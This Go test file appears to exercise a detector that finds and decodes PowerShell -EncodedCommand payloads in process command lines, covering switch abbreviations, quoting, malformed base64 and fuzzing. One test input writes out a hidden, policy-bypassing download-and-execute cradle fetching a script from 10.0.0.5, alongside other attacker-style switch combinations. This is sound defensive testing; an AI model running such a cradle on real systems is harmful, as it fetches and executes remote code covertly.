package psenc

import (
	"encoding/base64"
	"errors"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

// enc encodes s as PowerShell's -EncodedCommand wants it.
func enc(s string) string { return base64.StdEncoding.EncodeToString(utf16le(s)) }

func utf16le(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return b
}

func TestFind(t *testing.T) {
	hi := enc("Write-Host hi")
	iex := enc("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')")
	tests := []struct {
		name, cmdline string
		found         bool
		sw, script    string
		note          string // a substring of Note ("" none)
		err           error
	}{
		{"enc", "powershell.exe -enc " + hi, true, "-enc", "Write-Host hi", "", nil},
		{"full name", "powershell -EncodedCommand " + hi, true, "-EncodedCommand", "Write-Host hi", "", nil},
		{"e", "powershell -e " + hi, true, "-e", "Write-Host hi", "", nil},
		{"ec", "powershell -ec " + hi, true, "-ec", "Write-Host hi", "", nil},
		{"en", "powershell -en " + hi, true, "-en", "Write-Host hi", "", nil},
		{"enco", "powershell -enco " + hi, true, "-enco", "Write-Host hi", "", nil},
		{"encoded (before EncodedArguments)", "powershell -encoded " + hi, true, "-encoded", "Write-Host hi", "", nil},
		{"upper case", "POWERSHELL.EXE -ENC " + hi, true, "-ENC", "Write-Host hi", "", nil},
		{"slash", "powershell /e " + hi, true, "/e", "Write-Host hi", "", nil},
		{"double dash", "pwsh --enc " + hi, true, "--enc", "Write-Host hi", "", nil},
		{"en dash", "powershell \u2013enc " + hi, true, "\u2013enc", "Write-Host hi", "", nil},
		{"em dash", "powershell \u2014e " + hi, true, "\u2014e", "Write-Host hi", "", nil},
		{"after other switches", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc " + iex, true, "-Enc",
			"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')", "", nil},
		{"downgrade", "powershell -version 2 -enc " + hi, true, "-enc", "Write-Host hi", "", nil},
		{"ep", "powershell -ep bypass -ec " + hi, true, "-ec", "Write-Host hi", "", nil},
		{"quoted path", `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -enc ` + hi, true, "-enc", "Write-Host hi", "", nil},
		{"quoted payload with spaces", `powershell -enc "` + hi[:8] + " " + hi[8:] + `"`, true, "-enc", "Write-Host hi", "", nil},
		{"under cmd", "cmd.exe /c powershell -enc " + hi, true, "-enc", "Write-Host hi", "", nil},
		{"quoted under cmd", `cmd.exe /c "powershell -w hidden -enc ` + hi + `"`, true, "-enc", "Write-Host hi", "", nil},
		// Unquoted, CreateProcess tries C:\Program.exe first, then this pwsh.exe.
		{"unquoted pwsh path", `C:\Program Files\PowerShell\7\pwsh.exe -e ` + hi, true, "-e", "Write-Host hi", "", nil},
		{"pwsh", `pwsh -e ` + hi, true, "-e", "Write-Host hi", "", nil},
		{"no argument", "powershell -enc", true, "-enc", "", "", ErrNoArgument},
		{"not base64", "powershell -enc abc$def", true, "-enc", "", "", ErrBase64},
		{"unpadded", "powershell -enc " + strings.TrimRight(enc("di"), "="), true, "-enc", "di", "padding", nil},
		{"ASCII payload", "powershell -enc " + base64.StdEncoding.EncodeToString([]byte("Write-Host hi")), true, "-enc", "Write-Host hi", "ASCII text", nil},
		{"odd bytes", "powershell -enc " + base64.StdEncoding.EncodeToString([]byte{'d', 0, 'i', 0, 'r'}), true, "-enc", "di\uFFFD", "odd number", nil},
		{"unpaired surrogate", "powershell -enc " + base64.StdEncoding.EncodeToString([]byte{0x00, 0xd8, 'a', 0}), true, "-enc", "\uFFFDa", "", nil},
		{"EncodedArguments", "powershell -encodeda " + hi, false, "", "", "", nil},
		{"ea", "powershell -ea " + hi, false, "", "", "", nil},
		{"ex is ExecutionPolicy", "powershell -ex " + hi, false, "", "", "", nil},
		{"after -Command", "powershell -c Write-Host -enc " + hi, false, "", "", "", nil},
		{"after -File", "powershell -File a.ps1 -enc " + hi, false, "", "", "", nil},
		{"after the script", "powershell a.ps1 -enc " + hi, false, "", "", "", nil},
		{"unknown switch", "powershell -frob -enc " + hi, false, "", "", "", nil},
		{"colon form is not a switch", "powershell -enc:" + hi, false, "", "", "", nil},
		{"not PowerShell", "regsvr32.exe /s /e " + hi + " scrobj.dll", false, "", "", "", nil},
		{"PowerShell in a path only", `C:\powershell\tool.exe -enc ` + hi, false, "", "", "", nil},
		{"empty", "", false, "", "", "", nil},
		{"no switch", "powershell.exe", false, "", "", "", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e, ok := Find(tt.cmdline)
			if ok != tt.found {
				t.Fatalf("found %v, want %v (%+v)", ok, tt.found, e)
			}
			if !ok {
				return
			}
			if e.Switch != tt.sw || e.Script != tt.script || !errors.Is(e.Err, tt.err) || (tt.err == nil) != (e.Err == nil) {
				t.Errorf("got switch %q script %q err %v; want %q %q %v", e.Switch, e.Script, e.Err, tt.sw, tt.script, tt.err)
			}
			if (tt.note == "") != (e.Note == "") || !strings.Contains(e.Note, tt.note) {
				t.Errorf("note %q, want one with %q", e.Note, tt.note)
			}
			if e.Program == "" {
				t.Error("no program")
			}
		})
	}
}

func TestSplitArgs(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{`a b  c`, []string{"a", "b", "c"}},
		{`"a b" c`, []string{"a b", "c"}},
		{`a\\\"b c`, []string{`a\"b`, "c"}},
		{`a\\"b c" d`, []string{`a\b c`, "d"}},
		{`C:\dir\ "x"`, []string{`C:\dir\`, "x"}},
		{`"a""b"`, []string{`a"b`}},
		{`""`, []string{""}},
		{"\t a \t", []string{"a"}},
		{`a\`, []string{`a\`}},
	}
	for _, tt := range tests {
		got := splitArgs(tt.in)
		if strings.Join(got, "|") != strings.Join(tt.want, "|") || len(got) != len(tt.want) {
			t.Errorf("splitArgs(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestFindBounded(t *testing.T) {
	long := "powershell -enc " + strings.Repeat("A", MaxPayload+4)
	e, ok := Find(long)
	if !ok || !errors.Is(e.Err, ErrTooLong) {
		t.Errorf("a payload over MaxPayload: %v, %v", ok, e.Err)
	}
	many := strings.Repeat("x ", 10*maxArgs) + "powershell -enc " + enc("dir")
	if _, ok := Find(many); ok {
		t.Error("arguments past maxArgs were read")
	}
}

// FuzzFind: any command line is read without panicking, what is found is
// valid UTF-8 no longer than its payload allows, an error comes without a
// script, and a script encoded as PowerShell wants it decodes back to
// itself.
func FuzzFind(f *testing.F) {
	for _, s := range []string{"powershell -enc " + enc("Write-Host hi"), `cmd /c "pwsh -e ` + enc("dir") + `"`, "powershell -enc abc$",
		`"a\\\"b" "c""d"`, "powershell \u2013\u2014enc ==", "powershell -e " + enc("\U0001F600\x00\x1b]0;x\x07")} {
		f.Add(s, "dir")
	}
	f.Fuzz(func(t *testing.T, cmdline, script string) {
		if e, ok := Find(cmdline); ok {
			if !utf8.ValidString(e.Script) {
				t.Errorf("script not valid UTF-8: %q", e.Script)
			}
			if len(e.Script) > 3*len(e.Payload)+3 {
				t.Errorf("script of %d bytes from a payload of %d", len(e.Script), len(e.Payload))
			}
			if e.Err != nil && e.Script != "" {
				t.Errorf("err %v with script %q", e.Err, e.Script)
			}
		}
		if !utf8.ValidString(script) || script == "" || !utf16LE(utf16le(script)) {
			return // read as ASCII text by design (see utf16LE)
		}
		e, ok := Find("powershell.exe -NoProfile -EncodedCommand " + enc(script))
		if !ok || e.Err != nil || e.Script != script {
			t.Errorf("round trip of %q: %v %+v", script, ok, e)
		}
	})
}
